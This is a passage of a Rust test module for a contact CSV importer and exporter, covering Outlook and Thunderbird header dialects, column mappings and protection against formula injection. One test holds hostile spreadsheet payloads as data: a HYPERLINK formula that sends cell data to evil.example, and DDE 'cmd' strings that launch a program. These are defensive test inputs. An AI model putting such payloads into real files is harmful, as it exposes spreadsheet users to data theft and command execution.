                    "other", "fax", "pager", "mail",
                ],
            ),
            (
                "Outlook, Portuguese (Brazil)",
                "Tratamento,Primeiro nome,Sobrenome,Empresa,Departamento,Cargo,Telefone comercial,Telefone comercial 2,Telefone residencial,Telefone celular,Outro telefone,Fax comercial,Pager,E-mail Address",
                &[
                    "", "given", "sn", "o", "ou", "title", "work", "work", "home", "mobile",
                    "other", "fax", "pager", "mail",
                ],
            ),
            (
                "Outlook, Portuguese",
                "Título,Nome,Apelido,Empresa,Departamento,Cargo,Telefone da empresa,2º telefone da empresa,Telefone da residência,Telemóvel,Outro telefone,Fax da empresa,Pager,Endereço de correio electrónico,Profissão",
                &[
                    "", "given", "sn", "o", "ou", "title", "work", "work", "home", "mobile",
                    "other", "fax", "pager", "mail", "",
                ],
            ),
            (
                "Outlook",
                "Title,First Name,Last Name,Company,Department,Job Title,Business Phone,Car Phone,Home Phone,Mobile Phone,Other Phone,Home Fax,Pager,E-mail Address",
                &[
                    "", "given", "sn", "o", "ou", "title", "work", "other", "home", "mobile",
                    "other", "fax", "pager", "mail",
                ],
            ),
            (
                "Thunderbird, French",
                "Prénom,Nom de famille,Nom à afficher,Société,Service,Profession,Tél. professionnel ,Tél. personnel,Portable,Fax,Pager,Adresse e-mail principale",
                &[
                    "given", "sn", "display", "o", "ou", "title", "work", "home", "mobile", "fax",
                    "pager", "mail",
                ],
            ),
            (
                "Thunderbird, Spanish",
                "Nombre,Apellidos,Nombre mostrado,Organización,Departamento,Puesto,Teléfono (Trabajo),Teléfono particular,Teléfono móvil,Fax,Buscapersonas,Dirección de correo electrónico principal",
                &[
                    "given", "sn", "display", "o", "ou", "title", "work", "home", "mobile", "fax",
                    "pager", "mail",
                ],
            ),
            (
                "Thunderbird, Italian",
                "Nome,Cognome,Nome visualizzato,Organizzazione,Reparto,Qualifica,Telefono lavoro,Telefono casa,Numero cellulare,Numero fax,Numero cercapersone,Email primaria",
                &[
                    "given", "sn", "display", "o", "ou", "title", "work", "home", "mobile", "fax",
                    "pager", "mail",
                ],
            ),
            (
                "Thunderbird, Dutch",
                "Voornaam,Achternaam,Weergavenaam,Organisatie,Afdeling,Werkfunctie,Telefoon werk,Telefoon thuis,Mobiel nummer,Faxnummer,Piepernummer,Primair e-mailadres",
                &[
                    "given", "sn", "display", "o", "ou", "title", "work", "home", "mobile", "fax",
                    "pager", "mail",
                ],
            ),
            (
                "Thunderbird, Portuguese (Brazil)",
                "Primeiro nome,Sobrenome,Nome de exibição,Apelido,Organização,Setor,Cargo,Telefone comercial,Telefone residencial,Número do celular,Número do fax,Número do pager,Email principal",
                &[
                    "given", "sn", "display", "", "o", "ou", "title", "work", "home", "mobile",
                    "fax", "pager", "mail",
                ],
            ),
            (
                "Thunderbird, Portuguese",
                "Nome,Apelido,Nome exibido,Organização,Departamento,Profissão,Telefone profissional,Telefone de casa,Número de telemóvel,Número de fax,Número de pager,Email primário",
                &[
                    "given", "sn", "display", "o", "ou", "title", "work", "home", "mobile", "fax",
                    "pager", "mail",
                ],
            ),
        ];
        for (dialect, header, expected) in cases {
            let cells: Vec<String> = (0..expected.len()).map(|i| format!("v{i}-{i}")).collect();
            let text = format!("{header}\n{}\n", cells.join(","));
            let list = read(&text).unwrap_or_else(|e| panic!("{dialect}: {e}"));
            assert_eq!(list.variant, Some(dialect), "{header}");
            let c = &list.contacts[0];
            let got = |i: usize| {
                let v = &cells[i];
                let kinds = [
                    ("work", PhoneKind::Work),
                    ("home", PhoneKind::Home),
                    ("mobile", PhoneKind::Mobile),
                    ("other", PhoneKind::Other),
                    ("fax", PhoneKind::Fax),
                    ("pager", PhoneKind::Pager),
                ];
                for (name, kind) in kinds {
                    if c.numbers(kind).any(|n| n == v) {
                        return name;
                    }
                }
                for (name, field) in [
                    ("given", &c.given_name),
                    ("sn", &c.surname),
                    ("display", &c.display_name),
                    ("o", &c.company),
                    ("ou", &c.department),
                    ("title", &c.title),
                    ("mail", &c.email),
                ] {
                    if field == v {
                        return name;
                    }
                }
                ""
            };
            let found: Vec<&str> = (0..expected.len()).map(got).collect();
            assert_eq!(found, expected, "{dialect}");
        }
    }

    #[test]
    fn headers_match_without_case_accents_or_spacing_and_with_semicolons() {
        let text = "\u{feff}VORNAME; nachname ;TELEFON GESCHAEFTLICH;Telefon  privat;mobiltelefon;E-MAIL-ADRESSE\n\
                    Jörg;Größer;+49 30 1;+49 30 2;+49 170 3;j@example.de\n";
        let list = read(text).unwrap();
        let c = &list.contacts[0];
        assert_eq!(c.common_name(), "Jörg Größer");
        assert_eq!(c.phones.len(), 3);
        assert_eq!(c.email, "j@example.de");
        // A name close to a known one is not taken for it.
        let err = read("Telefonie,Vornamen\n1,2\n").unwrap_err();
        assert!(err.to_string().contains("--map"), "{err}");
    }

    #[test]
    fn a_mapping_reads_any_column_and_leaves_out_others() {
        let text = "Name,Durchwahl,Telefon Zentrale,Mobile,Bemerkung\n\
                    Ada,2001,+44 20 1,+44 77 2,n/a\n";
        let plain = read(text).unwrap();
        assert_eq!(plain.contacts[0].phones.len(), 1);
        assert!(plain.warnings[0].contains("Durchwahl, Telefon Zentrale, Bemerkung"));
        let mapping = Mapping::from_pairs([
            "Durchwahl=ipPhone",
            "telefon zentrale=telephoneNumber",
            "Mobile=-",
            "Fax=facsimileTelephoneNumber",
        ])
        .unwrap();
        let list = read_mapped(text, &mapping).unwrap();
        let c = &list.contacts[0];
        assert_eq!(numbers(c, PhoneKind::IpPhone), ["2001"]);
        assert_eq!(numbers(c, PhoneKind::Work), ["+44 20 1"]);
        assert_eq!(numbers(c, PhoneKind::Mobile), Vec::<&str>::new());
        assert!(
            list.warnings
                .iter()
                .any(|w| w == "ignored columns: Bemerkung"),
            "{:?}",
            list.warnings
        );
        assert!(
            list.warnings
                .iter()
                .any(|w| w.contains("names columns the file does not have: Fax")),
            "{:?}",
            list.warnings
        );
        // A file with no known column reads with a mapping.
        let list = read_mapped(
            "Teilnehmer;Rufnummer\nAda;+44 20 1\n",
            &Mapping::from_pairs(["Teilnehmer=cn", "Rufnummer=telephoneNumber"]).unwrap(),
        )
        .unwrap();
        assert_eq!(list.contacts[0].common_name(), "Ada");
    }

    #[test]
    fn export_round_trips() {
        let contacts = crate::bench::phonebook::generate(50, 9);
        let mut out = Vec::new();
        export_csv(&contacts, &mut out).unwrap();
        let back = read(std::str::from_utf8(&out).unwrap()).unwrap();
        assert!(back.skipped.is_empty());
        assert_eq!(back.contacts, contacts);
    }

    /// The cells of an export, row by row (header first).
    fn cells(csv: &[u8]) -> Vec<Vec<String>> {
        let mut reader = ::csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(csv);
        reader
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect()
    }

    #[test]
    fn formulas_are_exported_behind_a_quote_and_read_back_as_they_were() {
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "'=already quoted",
            "''@twice",
        ];
        let mut contacts = Vec::new();
        for (i, text) in hostile.iter().enumerate() {
            let mut c = Contact {
                id: format!("c{i}"),
                display_name: text.to_string(),
                title: text.to_string(),
                ..Contact::default()
            };
            for (kind, number) in [
                (PhoneKind::Work, "+49 30 1234567"),
                (PhoneKind::Work, "+49 (0)30 765-43.21"),
                (PhoneKind::Mobile, "+1 555 0100"),
                (PhoneKind::Home, "-030 1"),
                (PhoneKind::Fax, "=1+2"),
                (PhoneKind::Pager, "+1 555 CALL"),
            ] {
                c.phones.push(crate::contacts::Phone {
                    kind,
                    number: number.to_string(),
                });
            }
            contacts.push(c);
        }
        let mut out = Vec::new();
        export_csv(&contacts, &mut out).unwrap();
        let rows = cells(&out);
        let header = &rows[0];
        let column = |name: &str| header.iter().position(|h| h == name).unwrap();
        for (row, text) in rows[1..].iter().zip(hostile) {
            assert_eq!(row[column("displayName")], format!("'{text}"));
            assert_eq!(row[column("title")], format!("'{text}"));
            // Phone numbers as people write them are left as they are.
            assert_eq!(
                row[column("telephoneNumber")],
                "+49 30 1234567 ::: +49 (0)30 765-43.21"
            );
            assert_eq!(row[column("mobile")], "+1 555 0100");
            // A number cell that is not a plain number is guarded too.
            assert_eq!(row[column("facsimileTelephoneNumber")], "'=1+2");
            assert_eq!(row[column("pager")], "'+1 555 CALL");
            assert_eq!(row[column("homePhone")], "'-030 1");
        }
        // What a spreadsheet would run: a cell starting with a formula character
        // that is not a plain number in a number column.
        let numbers = column("telephoneNumber");
        for row in &rows[1..] {
            for (i, cell) in row.iter().enumerate() {
                let runs =
                    cell.starts_with(FORMULA_START) && !(i >= numbers && is_plain_number(cell));
                assert!(!runs, "{cell:?} would run in a spreadsheet");
            }
        }
        let back = read(std::str::from_utf8(&out).unwrap()).unwrap();
        assert!(back.skipped.is_empty(), "{:?}", back.skipped);
        assert_eq!(back.contacts, contacts);
    }

    #[test]
    fn the_guard_covers_tabs_and_carriage_returns_and_spares_plain_text() {
        for cell in ["\t=1+2", "\r=1+2", "@x", "-x", "+x", "=x"] {
            assert_eq!(guarded(cell, false), format!("'{cell}"));
            assert_eq!(guarded(cell, true), format!("'{cell}"));
            assert_eq!(unguarded(&guarded(cell, false)), cell);
        }
        for cell in ["Ada", "ada@example.com", "O'Brien", "'quoted", "", "1+2"] {
            assert_eq!(guarded(cell, false), cell);
            assert_eq!(unguarded(cell), cell);
        }
        // A plain number is spared in a number column only.
        assert_eq!(guarded("+49 30 1234567", true), "+49 30 1234567");
        assert_eq!(guarded("+49 30 1234567", false), "'+49 30 1234567");
        // A quote before a formula character in a file not made by sop is dropped too.
        let out = read("cn,telephoneNumber\n'=Ada,'+49 30 1\n").unwrap();
        assert_eq!(out.contacts[0].cn, ["=Ada"]);
        assert_eq!(
            out.contacts[0].numbers(PhoneKind::Work).collect::<Vec<_>>(),
            ["+49 30 1"]
        );
    }
}
